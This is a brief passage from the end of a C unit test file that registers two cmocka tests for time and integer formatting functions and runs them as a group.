        cmocka_unit_test(test_format_time),
        cmocka_unit_test(test_format_int),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
